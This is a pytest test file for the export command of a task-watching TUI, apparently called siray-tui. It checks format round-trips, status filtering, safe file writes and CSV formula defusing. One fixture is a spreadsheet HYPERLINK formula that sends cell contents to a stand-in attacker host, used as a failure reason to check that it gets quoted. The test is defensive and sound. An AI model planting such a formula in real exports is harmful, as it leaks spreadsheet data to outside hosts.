"""``siray-tui export``: each format round-trips, formulas are defused, a bad path loses nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest

from siray_tui.cli import main
from siray_tui.core.columns import JSON_FIELDS, task_record
from siray_tui.core.eta import Estimator
from siray_tui.core.export import TIME_FIELDS
from siray_tui.core.models import WatchedTask
from tests.ui.fixtures import NOW, fill_store, make_task

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'


def final_tasks() -> list[WatchedTask]:
    """Tasks whose records do not move with the clock (final, or never answered)."""
    return [
        make_task(
            "image_a8813a4b4c9",
            "SUCCESS",
            label="hero shot",
            progress="100%",
            ago=900,
            queue=12,
            run=95,
            outputs=["https://api.siray.ai/redirect/a0", "https://api.siray.ai/redirect/a1"],
        ),
        make_task("image_0b91c2f3aa", "FAILURE", ago=600, queue=5, run=None, fail_reason=FORMULA),
        make_task(
            "video_77aa1290bc",
            "FAILURE",
            label="-5 and @me",
            ago=400,
            queue=20,
            run=140,
            fail_reason="GPU worker out of memory\ntrace: worker-17",
        ),
        make_task("image_0000000001", None, label="+just added", polled_ago=None),
    ]


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("SIRAY_API_TOKEN", "SIRAY_API_KEY", "SIRAY_BASE_URL", "SIRAY_TUI_DATA_DIR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SIRAY_TUI_CONFIG", "")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config-home"))
    fill_store(tmp_path / "data", final_tasks())
    return tmp_path / "data"


def run(
    argv: list[str], data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, str]:
    code = main(["--data-dir", str(data_dir), "export", *argv], stdin=io.StringIO(""))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def expected() -> list[dict[str, object]]:
    tasks = final_tasks()
    estimator = Estimator.learnt_from(tasks, NOW)
    return [task_record(task, NOW, estimator=estimator) for task in tasks]


def test_json_round_trips(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["--format", "json"], data_dir, capsys)
    assert (code, err) == (0, "")
    assert json.loads(out) == expected()


def test_ndjson_round_trips(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["--format", "ndjson"], data_dir, capsys)
    assert code == 0
    assert [json.loads(line) for line in out.splitlines()] == expected()


def _read_back(name: str, cell: str, original: object) -> object:
    """What a script reading the CSV recovers, in the record's terms."""
    if cell == "":
        return None if original in (None, [], "") else cell
    if name in TIME_FIELDS:
        assert cell.endswith("Z")
        return datetime.fromisoformat(cell).timestamp()
    if isinstance(original, list):
        return cell.split(" ")
    if isinstance(original, bool):
        return {"true": True, "false": False}[cell]
    if isinstance(original, int | float):
        return float(cell)
    return cell[1:] if cell.startswith("'") else cell


def test_csv_round_trips(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run([], data_dir, capsys)  # csv is the default
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert list(rows[0]) == list(JSON_FIELDS)
    for row, record in zip(rows, expected(), strict=True):
        for name in JSON_FIELDS:
            value = record[name]
            back = _read_back(name, row[name], value)
            if name in TIME_FIELDS and value is not None:
                assert back == round(float(value))  # type: ignore[arg-type]
            elif value in ([], ""):
                assert back is None
            else:
                assert back == value, name


def test_csv_defuses_a_formula_reason(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["--format", "csv"], data_dir, capsys)
    assert code == 0
    rows = {row["task_id"]: row for row in csv.DictReader(io.StringIO(out, newline=""))}
    assert rows["image_0b91c2f3aa"]["fail_reason"] == "'" + FORMULA
    assert rows["video_77aa1290bc"]["label"] == "'-5 and @me"
    assert rows["image_0000000001"]["label"] == "'+just added"
    # the server's multi-line reason stays one cell, not a formula
    assert rows["video_77aa1290bc"]["fail_reason"].startswith("GPU worker out of memory\n")
    # our own numbers stay numbers
    assert rows["video_77aa1290bc"]["run_seconds"] == "140.0"
    assert rows["video_77aa1290bc"]["submit_time"] == "2025-11-16T06:24:32Z"


def test_status_filter(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["--format", "ndjson", "--status", "failure"], data_dir, capsys)
    assert code == 0
    assert [json.loads(line)["task_id"] for line in out.splitlines()] == [
        "image_0b91c2f3aa",
        "video_77aa1290bc",
    ]
    code, out, _ = run(
        ["--format", "ndjson", "--status", "SUCCESS", "--status", "pending"], data_dir, capsys
    )
    assert [json.loads(line)["task_id"] for line in out.splitlines()] == [
        "image_a8813a4b4c9",
        "image_0000000001",
    ]


def test_unknown_status_is_an_error(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["--status", "SUCCES"], data_dir, capsys)
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "unknown status 'SUCCES'" in err


def test_output_file_is_written_whole(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out" / "tasks.json"
    target.parent.mkdir()
    code, out, _ = run(["--format", "json", "-o", str(target)], data_dir, capsys)
    assert (code, out) == (0, "")
    assert json.loads(target.read_text(encoding="utf-8")) == expected()
    assert os.listdir(target.parent) == ["tasks.json"]  # no temporary file left behind


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes to read-only folders")
def test_unwritable_path_leaves_the_old_file(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    target = folder / "tasks.csv"
    target.write_text("the previous export\n", encoding="utf-8")
    folder.chmod(0o500)
    try:
        code, out, err = run(["-o", str(target)], data_dir, capsys)
    finally:
        folder.chmod(0o700)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and f"cannot write {target}" in err
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert os.listdir(folder) == ["tasks.csv"]


def test_missing_folder_is_a_one_line_error(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "no" / "such" / "tasks.csv"
    code, out, err = run(["-o", str(target)], data_dir, capsys)
    assert (code, out) == (2, "")
    assert err == f"siray-tui: error: cannot write {target}: no such file or directory\n"
    assert not target.parent.exists()


def test_failed_write_removes_its_temporary_file(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A path that is a folder: the rename fails after the temporary file was written."""
    target = tmp_path / "a-folder"
    target.mkdir()
    code, _, err = run(["-o", str(target)], data_dir, capsys)
    assert code == 2 and f"cannot write {target}" in err
    assert os.listdir(tmp_path) == sorted(os.listdir(tmp_path))  # listing works
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".tmp")]
    assert target.is_dir() and not list(target.iterdir())


def _small_files() -> None:
    """In the child: files may grow to 2,000 bytes, and a write past that fails (EFBIG)
    instead of killing the process, as a full disk would. Works for root too."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))


def test_a_write_failing_midway_leaves_the_old_file(data_dir: Path, tmp_path: Path) -> None:
    fill_store(data_dir, [make_task(f"image_big{i:06d}", "SUCCESS") for i in range(40)])
    target = tmp_path / "tasks.json"
    target.write_text("the previous export\n", encoding="utf-8")
    command = [sys.executable, "-m", "siray_tui", "--data-dir", str(data_dir), "export"]
    result = subprocess.run(
        [*command, "--format", "json", "-o", str(target)],
        capture_output=True,
        text=True,
        preexec_fn=_small_files,
        env={**os.environ, "SIRAY_TUI_CONFIG": ""},
        check=False,
    )
    assert result.returncode == 2, result.stderr
    assert result.stderr == f"siray-tui: error: cannot write {target}: file too large\n"
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".tmp")]
